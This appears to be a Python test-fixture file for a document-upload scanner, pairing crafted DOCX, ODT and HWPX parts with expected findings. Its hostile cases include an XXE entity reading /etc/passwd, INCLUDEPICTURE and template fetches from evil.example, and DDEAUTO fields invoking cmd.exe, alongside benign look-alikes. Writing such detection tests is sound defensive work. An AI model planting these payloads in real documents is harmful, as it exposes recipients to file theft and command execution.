"""Parts of documents that run, fetch or hide something, by kind and format; and parts that only look like it."""

from core.uploads import problems
from tests.attachments import docx_entries, hwpx_entries, odt_entries, package, relationship

MACROS, OUTSIDE, BROKEN = problems.MACROS, problems.OUTSIDE_CONTENT, problems.BROKEN
ENTITY = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
VBA = '<Types><Default Extension="b" ContentType="application/vnd.ms-office.vbaProject"/>'
ADDRESSES = ("http://evil.example/x", "HTTPS://evil.example/x", "//evil.example/x", r"\\\\evil.example\x",
    "file://evil.example/x", "ftp://evil.example/x", " http://evil.example/x", "file:%2f%2fevil.example/x")  # fmt: skip
ODT_ELEMENTS = {
    "content.xml": (
        '<image xlink:show="embed" xlink:actuate="onLoad" {}/>', "<section-source {}/>", "<object {}/>",
        "<object-ole {}/>", "<plugin {}/>", "<applet {}/>", "<floating-frame {}/>", "<script {}/>",
        "<fill-image {}/>", "<connection-resource {}/>", '<image xlink:actuate="onRequest" {}/>',
    ),
    "meta.xml": ("<template {}/>", "<auto-reload {}/>"),
    "styles.xml": ("<background-image {}/>", "<font-face-uri {}/>"),
    "Object 1/content.xml": ("<image {}/>",),
}  # fmt: skip
RUNNING = (
    '<event-listener {}="vnd.sun.star.script:x"/>',
    '<a {}="macro:///S.M.x"/>',
    '<a {}=" VND.sun.star.Script:x"/>',
)
FETCHING = (
    'INCLUDEPICTURE "http://evil.example/x.png" \\d', ' includetext https://evil.example/x',
    'INCLUDEPICTURE "\\\\\\\\evil.example\\x.png"', 'LINK Word.Document.8 "http://evil.example/x.doc"',
    'RD "file://evil.example/x.doc"', 'INCLUDEPICTURE \\d "http://evil.example/x.png"',
)  # fmt: skip


def docx(**entries) -> tuple:
    return "mou.docx", package(docx_entries(**entries))


def odt(name: str, element: str) -> tuple:
    root = f'<office xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:l="http://www.w3.org/1999/xlink">{element}</office>'
    return "mou.odt", package(odt_entries(**{name: root}))


def hwpx(**entries) -> tuple:
    return "mou.hwpx", package(hwpx_entries(**entries))


def field(*pieces: str) -> str:
    """A document with a field of Word, its instruction in so many pieces."""
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return f'<w:p xmlns:w="urn:w"><w:t>See</w:t><w:fldChar/>{runs}<w:fldChar/></w:p>'


def simple_field(instruction: str) -> str:
    return f"<p><fldSimple instr='{instruction}'/></p>"


def relationships(*args: str) -> str:
    return f"<Relationships>{relationship(*args)}</Relationships>"


HOSTILE_PARTS = {
    **{
        f"ODT with {element} in {name}": (*odt(name, element.format(f'xlink:href="{ADDRESSES[0]}"')), OUTSIDE)
        for name, elements in ODT_ELEMENTS.items()
        for element in elements
    },
    **{
        f"ODT with a picture from {address}": (*odt("content.xml", f'<image l:href="{address}"/>'), OUTSIDE)
        for address in ADDRESSES
    },
    **{f"ODT that runs {row}": (*odt("content.xml", row.format("xlink:href")), MACROS) for row in RUNNING},
    "ODT with a macro by name": (*odt("content.xml", '<event-listener macro-name="x"/>'), MACROS),
    "ODT with a field that runs a macro": (*odt("content.xml", '<execute-macro name="x"/>'), MACROS),
    "ODT with DDE": (*odt("content.xml", '<dde-connection-decl dde-application="cmd"/>'), MACROS),
    "ODT with DDE in a section": (*odt("content.xml", '<dde-source dde-application="cmd"/>'), MACROS),
    "ODT with an entity in its RDF": ("mou.odt", package(odt_entries(**{"manifest.rdf": ENTITY})), BROKEN),
    "ODT with an entity in capitals": ("mou.odt", package(odt_entries(**{"X.XML": ENTITY})), BROKEN),
    **{
        f"HWPX with an item at {address}": (
            *hwpx(**{"Contents/content.hpf": f'<package><item href="{address}" isEmbeded="0"/></package>'}),
            OUTSIDE,
        )
        for address in ADDRESSES
    },
    "HWPX with an entity in its RDF": (*hwpx(**{"META-INF/container.rdf": ENTITY}), BROKEN),
    **{
        f"DOCX with a template in {name}": (
            *docx(**{name: relationships("attachedTemplate", ADDRESSES[0])}),
            OUTSIDE,
        )
        for name in ("word/_rels/settings.xml.rels", "word/_rels/settings.xml.RELS", "WORD/_RELS/s.bin")
    },
    **{
        f"DOCX with a picture from {address}, not said to be external": (
            *docx(relationships=relationship("image", address, "Internal")),
            OUTSIDE,
        )
        for address in ADDRESSES
    },
    "DOCX with HTML that Word takes in": (
        *docx(relationships=relationship("aFChunk", "x.html", "Internal")),
        OUTSIDE,
    ),
    "DOCX with VBA by its type": (
        *docx(**{"[Content_Types].xml": docx_entries()["[Content_Types].xml"].replace("<Types>", VBA)}),
        MACROS,
    ),
    "DOCX with VBA by its relationship": (
        *docx(relationships=relationship("vbaProject", "project.bin", "Internal")),
        MACROS,
    ),
    "DOCX with a control by its relationship": (
        *docx(relationships=relationship("control", "c.xml", "Internal")),
        MACROS,
    ),
    "DOCX with a picture of VML": (
        *docx(**{"word/document.xml": '<d><imagedata src="http://evil.example/x"/></d>'}),
        OUTSIDE,
    ),
    **{
        f"DOCX with the field {row}": (*docx(**{"word/document.xml": field(row)}), OUTSIDE)
        for row in FETCHING
    },
    **{
        f"DOCX with the simple field {row}": (*docx(**{"word/h.xml": simple_field(row)}), OUTSIDE)
        for row in FETCHING
    },
    "DOCX with a field in pieces": (
        *docx(**{"word/document.xml": field("INCLUDE", 'PICTURE "ht', 'tp://e.example"')}),
        OUTSIDE,
    ),
    "DOCX with DDEAUTO": (*docx(**{"word/document.xml": field(" DDEAUTO c:\\\\cmd.exe")}), MACROS),
    "DOCX with DDE in pieces": (*docx(**{"word/footer1.xml": field("D", "DE cmd")}), MACROS),
    "DOCX with a simple field of DDE": (*docx(**{"word/document.xml": simple_field("dde cmd")}), MACROS),
    "DOCX with an entity in a picture": (*docx(**{"word/media/x.svg": ENTITY}), BROKEN),
    "DOCX with a picture that loads": (
        *docx(**{"word/media/x.svg": '<svg><image href="http://evil.example/x"/></svg>'}),
        OUTSIDE,
    ),
}

INERT_PARTS = {
    **{
        f"DOCX with the harmless field {row}": (*docx(**{"word/document.xml": field(row)}), None)
        for row in (
            'HYPERLINK "https://example.org"',
            'INCLUDEPICTURE "C:\\\\Users\\\\Kim\\\\seal.png" \\* MERGEFORMAT',
            'INCLUDEPICTURE "cid:image001.png"',
            "PAGE \\* MERGEFORMAT",
            "LINKS http://example.org",
            "",
        )
    },
    **{
        f"ODT with {row}": (*odt("content.xml", row), None)
        for row in (
            '<a xlink:href="https://example.org/"/>',
            '<area-circle xlink:href="https://example.org/"/>',
            '<template xlink:href="file:///home/kim/t.ott"/>',
            '<template xlink:href="/C:/Users/Kim/t.ott"/>',
            '<image xlink:href="Pictures/seal.png"/>',
            '<object xlink:href="./Object 1"/>',
            '<image xlink:href=""/>',
            '<image href="#a"/>',
            "<scripts/>",
            '<event-listener macro-name=""/>',
        )
    },
    **{
        f"HWPX with a picture at {address}": (
            *hwpx(**{"Contents/content.hpf": f'<package><item href="{address}"/></package>'}),
            None,
        )
        for address in ("BinData/image1.png", r"C:\\Users\\Kim\\seal.png", "D:/seal.png", "")
    },
    "HWPX with a preview that begins like XML": (*hwpx(**{"Preview/PrvText.txt": "<합의서> & <"}), None),
    "ODT with an empty part": (
        "mou.odt",
        package(odt_entries(**{"Configurations2/accelerator/current.xml": ""})),
        None,
    ),
    "DOCX with words on DDE": (*docx(**{"word/document.xml": "<d><t>DDE cmd</t></d>"}), None),
    "DOCX with a drawn picture": (
        *docx(
            **{
                "word/media/x.svg": '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/x.dtd"><svg/>'
            }
        ),
        None,
    ),
    "DOCX with a text that begins like XML": (*docx(**{"x.txt": "<합의서> & <"}), None),
}
